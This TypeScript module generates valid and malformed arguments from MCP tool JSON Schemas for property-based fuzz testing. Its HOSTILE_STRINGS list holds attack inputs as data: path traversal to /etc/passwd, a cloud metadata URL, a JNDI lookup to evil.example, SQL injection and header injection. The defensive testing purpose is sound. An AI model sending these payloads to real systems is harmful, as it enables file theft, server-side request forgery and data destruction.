// fast-check arbitraries built from a tool's advertised JSON Schema (what tools/list returns): valid arguments, and
// malformed ones that start from a valid object and break it in exactly one place. Every malformed case is checked
// against the advertised schema with the SDK's own JSON Schema validator, so only real violations are produced.
import fc from 'fast-check';
import { AjvJsonSchemaValidator } from '@modelcontextprotocol/client/validators/ajv';

export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  multipleOf?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  [keyword: string]: unknown;
}

/** One malformed call: the arguments, how they were broken, and the key the error message must name. */
export interface MalformedCase {
  args: Record<string, unknown>;
  kind: string;
  field: string;
}

/** Strings a model might be tricked into sending: control and invisible characters, traversal, other hosts. */
export const HOSTILE_STRINGS: readonly string[] = [
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31mred',
  'line\r\nX-Injected: header',
  '\t',
  '\u200b',
  'a\u2060b',
  '\u202Egnp.exe',
  '\u{E0041}\u{E0042}\u{E0043}',
  '\uFEFFbom',
  '\ud800',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2fetc%2fpasswd',
  'http://169.254.169.254/latest/meta-data/',
  'https://evil.example/',
  '//evil.example/x',
  'file:///etc/passwd',
  '${jndi:ldap://evil.example/a}',
  "'; DROP TABLE issues;--",
  '12',
  '-1',
  '1e3',
  '',
  ' ',
];

/** Characters spliced into an otherwise valid value to break a pattern, an enum or an id. */
const SPLICES: readonly string[] = ['\u0000', '\n', '\r', '\u001b', '\u200b', '\u2060', '\u202E', '\u{E0041}', '/../', '?', '#', ' ', '%00'];

/** Larger than any maxLength advertised, and than most request-size limits. */
export const HUGE_STRING_LENGTH = 1024 * 1024;
const LARGE_STRING = 64 * 1024;

const validator = new AjvJsonSchemaValidator();

/** The advertised schema as a predicate (the same engine the SDK client uses for output schemas). */
export function compile(schema: JsonSchema): (value: unknown) => boolean {
  const check = validator.getValidator(schema as never);
  return (value) => check(value).valid;
}

/** The validator's message for a value, for assertion messages. */
export function explain(schema: JsonSchema, value: unknown): string | undefined {
  return validator.getValidator(schema as never)(value).errorMessage;
}

function typesOf(schema: JsonSchema): Set<string> {
  const types = new Set<string>();
  if (schema.anyOf) for (const branch of schema.anyOf) for (const type of typesOf(branch)) types.add(type);
  if (Array.isArray(schema.type)) for (const type of schema.type) types.add(type);
  else if (schema.type) types.add(schema.type);
  const literals = schema.enum ?? ('const' in schema ? [schema.const] : []);
  for (const literal of literals) types.add(literal === null ? 'null' : Array.isArray(literal) ? 'array' : typeof literal);
  if (types.has('integer')) types.add('number');
  return types;
}

/** UTF-16 length within [min, max]: the stricter of the two ways to count (zod counts units, JSON Schema code points). */
function lengthFits(text: string, schema: JsonSchema): boolean {
  return text.length >= (schema.minLength ?? 0) && text.length <= (schema.maxLength ?? Infinity);
}

function decimals(step: number): number {
  const text = String(step);
  return text.includes('.') ? text.length - text.indexOf('.') - 1 : 0;
}

function validNumber(schema: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const low = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum : -1_000_000);
  const high = schema.maximum ?? (schema.exclusiveMaximum !== undefined ? schema.exclusiveMaximum : 1_000_000);
  const step = schema.multipleOf ?? (integer ? 1 : undefined);
  if (step !== undefined) {
    const places = decimals(step);
    return fc
      .integer({ min: Math.ceil(low / step), max: Math.floor(high / step) })
      .map((k) => Number((k * step).toFixed(places)))
      .filter((n) => n >= low && n <= high && n !== schema.exclusiveMinimum && n !== schema.exclusiveMaximum);
  }
  return fc.double({ min: low, max: high, noNaN: true, noDefaultInfinity: true, minExcluded: schema.exclusiveMinimum !== undefined, maxExcluded: schema.exclusiveMaximum !== undefined });
}

/** Any code point, lone surrogates included (fast-check's 'binary' unit does the same but takes seconds to build). */
const ANY_CODE_POINT = fc.integer({ min: 0, max: 0x10ffff }).map((code) => String.fromCodePoint(code));

// One string arbitrary per shape of string: building one with a Unicode unit is not free.
const stringArbitraries = new Map<string, fc.Arbitrary<string>>();

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  const key = JSON.stringify([schema.minLength, schema.maxLength, schema.pattern, schema.format]);
  let arbitrary = stringArbitraries.get(key);
  if (!arbitrary) {
    arbitrary = buildValidString(schema);
    stringArbitraries.set(key, arbitrary);
  }
  return arbitrary;
}

/** Values of the usual string formats; other formats fall back to free text (filtered by the validator). */
const FORMATS: Record<string, fc.Arbitrary<string>> = {
  date: fc.date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)),
  'date-time': fc.date({ min: new Date('1970-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString()),
  uri: fc.webUrl(),
  email: fc.emailAddress(),
  uuid: fc.uuid(),
};

function buildValidString(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = Math.min(schema.maxLength ?? 200, 200);
  const format = schema.format !== undefined ? FORMATS[schema.format] : undefined;
  if (format) return format.filter((text) => lengthFits(text, schema));
  if (schema.pattern !== undefined) {
    return fc.stringMatching(new RegExp(schema.pattern)).filter((text) => lengthFits(text, schema));
  }
  const hostile = HOSTILE_STRINGS.filter((text) => lengthFits(text, schema));
  const sized = { minLength: min, maxLength: Math.max(min, max) };
  return fc.oneof(
    { arbitrary: fc.string(sized), weight: 3 },
    { arbitrary: fc.string({ ...sized, unit: 'grapheme' }), weight: 2 },
    { arbitrary: fc.string({ ...sized, unit: ANY_CODE_POINT }), weight: 1 },
    ...(hostile.length ? [{ arbitrary: fc.constantFrom(...hostile), weight: 2 }] : []),
  ).filter((text) => lengthFits(text, schema));
}

/** Values the schema accepts. Objects carry every required key and any subset of the optional ones. */
export function validValue(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (Array.isArray(schema.hinted)) {
    const { hinted, ...plain } = schema;
    return fc.oneof({ arbitrary: fc.constantFrom(...(hinted as unknown[])), weight: 3 }, { arbitrary: validValue(plain), weight: 1 });
  }
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((branch) => validValue(branch)));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'integer':
      return validNumber(schema, true);
    case 'number':
      return validNumber(schema, false);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'string':
      return validString(schema);
    case 'array':
      return fc.array(schema.items ? validValue(schema.items) : fc.jsonValue(), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 4, Math.max(schema.minItems ?? 0, 4)),
      });
    case 'object':
      return validObject(schema);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

function validObject(schema: JsonSchema): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  const model = Object.fromEntries(Object.entries(properties).map(([key, property]) => [key, validValue(property)]));
  const fixed = fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in properties) }) as fc.Arbitrary<Record<string, unknown>>;
  const extra = schema.additionalProperties;
  if (typeof extra !== 'object') return fixed;
  // A map-like object (custom fields by name): a few keys the propertyNames schema allows.
  const keys = (schema.propertyNames ? validString({ ...schema.propertyNames, maxLength: Math.min(schema.propertyNames.maxLength ?? 30, 30) }) : fc.string({ maxLength: 30 })).filter(
    (key) => !(key in properties) && key !== '__proto__',
  );
  return fc.tuple(fixed, fc.dictionary(keys, validValue(extra), { maxKeys: 3 })).map(([known, more]) => ({ ...more, ...known }));
}

/** Values worth trying by property name (ids and codes that exist upstream), used when the property's schema allows them. */
export type Hints = Record<string, readonly unknown[]>;

/**
 * Valid arguments for a tool's input schema, double-checked against the schema. With hints, a property takes one of
 * its hinted values most of the time, so that calls reach existing objects and not only "not found".
 */
export function validArgs(schema: JsonSchema, hints: Hints = {}): fc.Arbitrary<Record<string, unknown>> {
  const accepts = compile(schema);
  const properties = Object.fromEntries(
    Object.entries(schema.properties ?? {}).map(([key, property]) => {
      const fits = compile(property);
      const known = (hints[key] ?? []).filter((value) => fits(value));
      return [key, known.length ? { ...property, hinted: known } : property];
    }),
  );
  return validObject({ ...schema, properties }).filter((args) => accepts(args));
}

function anyOfType(type: string): fc.Arbitrary<unknown> {
  switch (type) {
    case 'string':
      return fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string({ maxLength: 20 }));
    case 'number':
      return fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constantFrom(1.5, -0.5, 2 ** 53 + 2, -(2 ** 63), 1e308));
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 });
    default:
      return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 });
  }
}

const JSON_TYPES = ['string', 'number', 'boolean', 'null', 'array', 'object'] as const;

/** A value of a JSON type the schema does not allow at all (a string for an id, an object for a flag...). */
function wrongType(schema: JsonSchema): fc.Arbitrary<unknown> | undefined {
  const allowed = typesOf(schema);
  if (allowed.size === 0) return undefined;
  const others = JSON_TYPES.filter((type) => !allowed.has(type));
  // Tools read a number written as text ("12", "1h30" for hours): a string in place of a number has no digit, so
  // that it is wrong whatever the tool's coercion understands.
  const of = (type: (typeof JSON_TYPES)[number]): fc.Arbitrary<unknown> =>
    type === 'string' && allowed.has('number') ? anyOfType(type).filter((value) => !/[0-9]/.test(String(value))) : anyOfType(type);
  return others.length ? fc.oneof(...others.map(of)) : undefined;
}

function splice(arbitrary: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc
    .tuple(arbitrary, fc.constantFrom(...SPLICES), fc.nat())
    .map(([value, inserted, at]) => {
      const text = String(value);
      const position = text.length ? at % (text.length + 1) : 0;
      return text.slice(0, position) + inserted + text.slice(position);
    });
}

function swapCase(text: string): string {
  return [...text].map((char) => (char === char.toUpperCase() ? char.toLowerCase() : char.toUpperCase())).join('');
}

interface Weighted {
  arbitrary: fc.Arbitrary<unknown>;
  weight: number;
  kind: string;
}

/** Broken values for one property, by kind. Checked against the full schema by the caller. */
function brokenValues(schema: JsonSchema): Weighted[] {
  const out: Weighted[] = [];
  const wrong = wrongType(schema);
  if (wrong) out.push({ arbitrary: wrong, weight: 3, kind: 'wrong type' });
  const types = typesOf(schema);
  const literals = schema.enum ?? ('const' in schema ? [schema.const] : schema.anyOf?.every((b) => 'const' in b) ? schema.anyOf.map((b) => b.const) : undefined);
  if (literals) {
    const sample = literals.map(String);
    const near = fc.oneof(
      fc.constantFrom(...HOSTILE_STRINGS),
      fc.constantFrom(...sample).map((text) => text.toUpperCase()),
      fc.constantFrom(...sample).map((text) => ` ${text}`),
      splice(fc.constantFrom(...sample)),
    );
    const numbers: fc.Arbitrary<unknown> = fc.oneof(fc.integer({ min: -5, max: 5 }), fc.constantFrom(0.5, 1.5, 99));
    const candidates: fc.Arbitrary<unknown> = types.has('number') && !types.has('string') ? numbers : near;
    out.push({
      arbitrary: candidates.filter((value) => !literals.includes(value)),
      weight: 3,
      kind: 'not one of the allowed values',
    });
  }
  if (types.has('string') && !literals) {
    // Past a large maxLength, the fixed huge case per property (edgeCases) is enough.
    if (schema.maxLength !== undefined && schema.maxLength <= LARGE_STRING) {
      const max = schema.maxLength;
      out.push({ arbitrary: fc.integer({ min: max + 1, max: max + 64 }).map((n) => 'a'.repeat(n)), weight: 2, kind: 'too long' });
      // Too long only because of surrounding whitespace: a limit must hold for what was sent, not what trimming leaves.
      out.push({
        arbitrary: fc.tuple(fc.integer({ min: max + 1, max: max + 64 }), fc.constantFrom(' ', '\t', '\n')).map(([n, blank]) => `${blank.repeat(Math.floor(n / 2))}a${blank.repeat(n - Math.floor(n / 2) - 1)}`),
        weight: 1,
        kind: 'too long with padding',
      });
    }
    if ((schema.minLength ?? 0) > 0) out.push({ arbitrary: fc.constant('x'.repeat((schema.minLength ?? 1) - 1)), weight: 1, kind: 'too short' });
    if (schema.format !== undefined) {
      out.push({ arbitrary: fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), splice(validString(schema))), weight: 3, kind: 'format violated' });
    }
    if (schema.pattern !== undefined) {
      const pattern = new RegExp(schema.pattern, 'u');
      const base = validString(schema);
      out.push({
        arbitrary: fc
          .oneof(
            fc.constantFrom(...HOSTILE_STRINGS),
            splice(base),
            base.map((text) => `${text}\n`),
            base.map((text) => ` ${text}`),
            base.map((text) => swapCase(text)),
          )
          .filter((text) => !pattern.test(text)),
        weight: 4,
        kind: 'pattern violated',
      });
    }
  }
  if (types.has('number') && !literals) {
    const integer = schema.type === 'integer';
    if (schema.minimum !== undefined) {
      const min = schema.minimum;
      out.push({ arbitrary: fc.oneof(fc.constantFrom(min - 1, -1, -(2 ** 31), -1e308), fc.nat().map((n) => Math.ceil(min) - 1 - n)).filter((n) => n < min), weight: 2, kind: 'below minimum' });
    }
    if (schema.exclusiveMinimum !== undefined) out.push({ arbitrary: fc.constantFrom(schema.exclusiveMinimum, schema.exclusiveMinimum - 1), weight: 1, kind: 'not above exclusive minimum' });
    if (schema.maximum !== undefined) {
      const max = schema.maximum;
      out.push({ arbitrary: fc.oneof(fc.constantFrom(max + 1, 2 ** 31, 2 ** 53 + 2, 1e308), fc.nat().map((n) => Math.floor(max) + 1 + n)).filter((n) => n > max), weight: 2, kind: 'above maximum' });
    }
    if (integer) {
      const low = schema.minimum ?? 0;
      const high = Math.min(schema.maximum ?? low + 1000, low + 1000);
      out.push({ arbitrary: fc.integer({ min: Math.ceil(low), max: Math.floor(high) - 1 }).map((n) => n + 0.5), weight: 2, kind: 'not an integer' });
    }
    if (schema.multipleOf !== undefined) {
      const step = schema.multipleOf;
      const low = Math.max(schema.minimum ?? schema.exclusiveMinimum ?? 0, 0);
      out.push({ arbitrary: fc.integer({ min: 0, max: 100 }).map((n) => Number((low + step * n + step / 2).toFixed(decimals(step) + 1))), weight: 2, kind: 'not a multiple' });
    }
  }
  if (types.has('array') && schema.type === 'array') {
    const item = schema.items ?? {};
    const good = validValue(item);
    if (schema.maxItems !== undefined) {
      out.push({ arbitrary: fc.array(good, { minLength: schema.maxItems + 1, maxLength: schema.maxItems + 3 }), weight: 1, kind: 'too many items' });
    }
    if ((schema.minItems ?? 0) > 0) out.push({ arbitrary: fc.array(good, { maxLength: (schema.minItems ?? 1) - 1 }), weight: 1, kind: 'too few items' });
    const badItems = brokenValues(item);
    if (badItems.length) {
      const bad = fc.oneof(...badItems.map(({ arbitrary, weight }) => ({ arbitrary, weight })));
      const room = Math.max((schema.maxItems ?? 3) - 1, 0);
      out.push({
        arbitrary: fc.tuple(fc.array(good, { maxLength: Math.min(room, 2) }), bad).map(([items, broken]) => [...items, broken]),
        weight: 3,
        kind: 'bad item',
      });
    }
  }
  if (types.has('object') && schema.type === 'object') {
    const properties = schema.properties ?? {};
    const base = validObject(schema);
    for (const key of schema.required ?? []) {
      out.push({ arbitrary: base.map(({ [key]: _dropped, ...rest }) => rest), weight: 1, kind: 'nested required key missing' });
    }
    for (const [key, property] of Object.entries(properties)) {
      for (const broken of brokenValues(property)) {
        out.push({ arbitrary: fc.tuple(base, broken.arbitrary).map(([object, value]) => ({ ...object, [key]: value })), weight: 1, kind: `nested ${broken.kind}` });
      }
    }
    const extra = schema.additionalProperties;
    if (typeof extra === 'object') {
      const badValues = brokenValues(extra);
      if (badValues.length) {
        const bad = fc.oneof(...badValues.map(({ arbitrary }) => arbitrary));
        out.push({ arbitrary: fc.tuple(base, bad).map(([object, value]) => ({ ...object, Field: value })), weight: 2, kind: 'bad entry value' });
      }
      const nameLimit = schema.propertyNames?.maxLength;
      if (nameLimit !== undefined) out.push({ arbitrary: base.map((object) => ({ ...object, ['k'.repeat(nameLimit + 1)]: 'x' })), weight: 1, kind: 'entry name too long' });
    }
  }
  return out;
}

// "__proto__" is not among them: the SDK drops that key while parsing the request, before any tool schema sees it
// (the fuzz suite checks that separately).
const EXTRA_KEYS = ['extra', 'id', 'project_id', 'url', 'baseUrl', 'api_key', 'token', 'headers', 'constructor', 'prototype', 'toString', 'admin', 'sudo'];

/** A key that is not a property: plain, a look-alike of a real one (case, invisible characters), or random. */
function unknownKey(schema: JsonSchema): fc.Arbitrary<string> {
  const names = Object.keys(schema.properties ?? {});
  const lookalikes = names.length
    ? [
        fc.constantFrom(...names).map((name) => name.toUpperCase()),
        fc.constantFrom(...names).map((name) => `${name}\u200b`),
        fc.constantFrom(...names).map((name) => `\u202E${name}`),
        fc.constantFrom(...names).map((name) => `${name} `),
        fc.constantFrom(...names).map((name) => name.replace(/_/g, '-')),
        fc.constantFrom(...names).map((name) => `${name}[]`),
      ]
    : [];
  return fc
    .oneof(fc.constantFrom(...EXTRA_KEYS), fc.string({ minLength: 1, maxLength: 12 }), fc.constantFrom(...HOSTILE_STRINGS.filter(Boolean)), ...lookalikes)
    .filter((key) => !names.includes(key) && key !== '__proto__');
}

/** Sets a key as an own, enumerable property even when it is "__proto__", so it reaches the wire. */
export function withKey(object: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, configurable: true, writable: true });
  return copy;
}

/**
 * What Bastion evens out before it validates an argument (src/core/tool-input.ts), so not malformed: null for an
 * optional argument (not given), a number for a text argument (its decimal text).
 */
function evenedOut(property: JsonSchema, value: unknown, required: boolean): boolean {
  return (value === null && !required) || (typeof value === 'number' && typesOf(property).has('string'));
}

/**
 * Malformed arguments for a tool: a valid object broken in one place (a property of the wrong type, out of range,
 * too long, off-pattern or off-enum; a required key dropped; an unknown key added). Only cases the advertised schema
 * rejects are produced.
 */
export function malformedArgs(schema: JsonSchema): fc.Arbitrary<MalformedCase> {
  const accepts = compile(schema);
  // A valid starting point, so that whatever the schema rejects is the one change made to it.
  const base = validObject(schema).filter((args) => accepts(args));
  const options: Array<{ arbitrary: fc.Arbitrary<MalformedCase>; weight: number }> = [];
  for (const [field, property] of Object.entries(schema.properties ?? {})) {
    const required = schema.required?.includes(field) ?? false;
    for (const broken of brokenValues(property)) {
      options.push({
        arbitrary: fc
          .tuple(base, broken.arbitrary.filter((value) => !evenedOut(property, value, required)))
          .map(([args, value]) => ({ args: withKey(args, field, value), kind: broken.kind, field })),
        weight: broken.weight,
      });
    }
  }
  for (const field of schema.required ?? []) {
    options.push({ arbitrary: base.map(({ [field]: _dropped, ...args }) => ({ args, kind: 'required key missing', field })), weight: 2 });
  }
  if (schema.additionalProperties === false) {
    options.push({
      arbitrary: fc.tuple(base, unknownKey(schema), fc.jsonValue({ maxDepth: 1 })).map(([args, field, value]) => ({ args: withKey(args, field, value), kind: 'unknown key', field })),
      weight: 3,
    });
  }
  if (options.length === 0) throw new Error('schema has nothing that can be broken');
  return fc.oneof(...options).filter((malformed) => !accepts(malformed.args));
}

/**
 * Fixed cases run on top of the random ones, per string property: a huge value (1 MiB or more), a value too long only
 * because of whitespace around it, and, where a pattern forbids them, a valid value with a line break after it, a
 * space before it or its letters in the other case.
 */
export function edgeCases(schema: JsonSchema): MalformedCase[] {
  const accepts = compile(schema);
  const [base = {}] = fc.sample(validArgs(schema), { numRuns: 1, seed: 1 });
  const cases: MalformedCase[] = [];
  for (const [field, property] of Object.entries(schema.properties ?? {})) {
    if (!typesOf(property).has('string') || property.enum) continue;
    const at = (kind: string, value: string): MalformedCase => ({ args: withKey(base, field, value), kind, field });
    if (property.maxLength !== undefined) {
      // Longer than maxLength by construction: no need to have the validator count a megabyte.
      cases.push(at('huge string', 'A'.repeat(Math.max(HUGE_STRING_LENGTH, property.maxLength + 1))));
      if (property.maxLength <= LARGE_STRING) {
        const half = Math.ceil(property.maxLength / 2);
        const padded = at('too long with padding', `${' '.repeat(half)}a${' '.repeat(property.maxLength - half)}`);
        if (!accepts(padded.args)) cases.push(padded);
      }
    }
    if (property.pattern !== undefined) {
      const [valid = ''] = fc.sample(validString(property), { numRuns: 1, seed: 1 });
      for (const value of [`${valid}\n`, ` ${valid}`, swapCase(valid)]) {
        const edge = at('pattern violated', value);
        if (!accepts(edge.args)) cases.push(edge);
      }
    }
  }
  return cases;
}
